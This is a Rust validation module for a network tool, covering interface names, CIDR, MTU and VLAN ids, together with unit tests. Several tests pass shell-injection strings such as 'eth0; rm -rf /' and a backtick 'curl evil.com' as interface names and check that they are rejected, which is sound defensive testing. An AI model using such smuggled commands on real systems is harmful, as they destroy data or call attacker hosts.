//! Input validation shared by the built-in drivers

use crate::error::{AbbotError, AbbotResult};
use std::net::IpAddr;

/// Maximum length for interface names (Linux kernel limit is 15)
const MAX_INTERFACE_NAME_LEN: usize = 15;

/// Highest usable 802.1Q VLAN id
pub const MAX_VLAN_ID: u16 = 4094;

/// Validate interface name
///
/// Interface names must be alphanumeric with optional dashes, dots and
/// underscores, and no longer than 15 characters
pub fn validate_interface_name(name: &str) -> AbbotResult<()> {
    if name.is_empty() {
        return Err(AbbotError::InvalidConfig(
            "Interface name cannot be empty".to_string()
        ));
    }

    if name.len() > MAX_INTERFACE_NAME_LEN {
        return Err(AbbotError::InvalidConfig(
            format!("Interface name '{}' too long (max {} characters)", name, MAX_INTERFACE_NAME_LEN)
        ));
    }

    for c in name.chars() {
        if !c.is_ascii_alphanumeric() && c != '-' && c != '_' && c != '.' {
            return Err(AbbotError::InvalidConfig(
                format!("Invalid interface name '{}': contains invalid character '{}'", name, c)
            ));
        }
    }

    // Could be read as an option by tooling downstream
    if name.starts_with('-') {
        return Err(AbbotError::InvalidConfig(
            "Interface name cannot start with dash".to_string()
        ));
    }

    Ok(())
}

/// Validate an address in CIDR notation, e.g. `10.0.0.1/24`
pub fn validate_cidr(cidr: &str) -> AbbotResult<(IpAddr, u8)> {
    let (addr, prefix) = cidr.split_once('/')
        .ok_or_else(|| AbbotError::InvalidConfig(
            format!("Address '{}' must include a prefix length", cidr)
        ))?;

    let addr: IpAddr = addr.parse()
        .map_err(|_| AbbotError::InvalidConfig(format!("Invalid IP address: {}", addr)))?;

    let prefix: u8 = prefix.parse()
        .map_err(|_| AbbotError::InvalidConfig(format!("Invalid prefix length: {}", prefix)))?;

    let max = if addr.is_ipv6() { 128 } else { 32 };
    if prefix > max {
        return Err(AbbotError::InvalidConfig(
            format!("Prefix length {} exceeds maximum {}", prefix, max)
        ));
    }

    Ok((addr, prefix))
}

/// Validate MTU value
pub fn validate_mtu(mtu: u32) -> AbbotResult<()> {
    // Ethernet minimum is 68, jumbo frames top out at 9000
    if mtu < 68 {
        return Err(AbbotError::InvalidConfig(
            format!("MTU {} is below the minimum of 68 bytes", mtu)
        ));
    }
    if mtu > 9000 {
        return Err(AbbotError::InvalidConfig(
            format!("MTU {} exceeds 9000 bytes", mtu)
        ));
    }
    Ok(())
}

/// Validate 802.1Q VLAN id
pub fn validate_vlan_id(vlan_id: u16) -> AbbotResult<()> {
    if vlan_id > MAX_VLAN_ID {
        return Err(AbbotError::InvalidConfig(
            format!("vlan_id must be between 0 and {}", MAX_VLAN_ID)
        ));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_interface_name_validation() {
        // Valid names
        assert!(validate_interface_name("eth0").is_ok());
        assert!(validate_interface_name("br-lan").is_ok());
        assert!(validate_interface_name("veth_test").is_ok());
        assert!(validate_interface_name("eth0.100").is_ok());

        // Invalid names - injection attempts
        assert!(validate_interface_name("eth0; rm -rf /").is_err());
        assert!(validate_interface_name("wlan0`curl evil.com`").is_err());
        assert!(validate_interface_name("eth0$evil").is_err());

        // Invalid - too long
        assert!(validate_interface_name("verylonginterfacename").is_err());

        // Invalid - starts with dash
        assert!(validate_interface_name("-eth0").is_err());

        // Invalid - empty
        assert!(validate_interface_name("").is_err());
    }

    #[test]
    fn test_cidr_validation() {
        assert_eq!(validate_cidr("10.0.0.1/24").unwrap().1, 24);
        assert!(validate_cidr("fe80::1/64").unwrap().0.is_ipv6());

        assert!(validate_cidr("10.0.0.1").is_err());
        assert!(validate_cidr("10.0.0.1/33").is_err());
        assert!(validate_cidr("256.1.1.1/24").is_err());
        assert!(validate_cidr("10.0.0.1/abc").is_err());
    }

    #[test]
    fn test_mtu_validation() {
        assert!(validate_mtu(1500).is_ok());
        assert!(validate_mtu(9000).is_ok());
        assert!(validate_mtu(0).is_err());
        assert!(validate_mtu(67).is_err());
        assert!(validate_mtu(9001).is_err());
    }

    #[test]
    fn test_vlan_id_validation() {
        assert!(validate_vlan_id(0).is_ok());
        assert!(validate_vlan_id(4094).is_ok());
        assert!(validate_vlan_id(4095).is_err());
    }
}
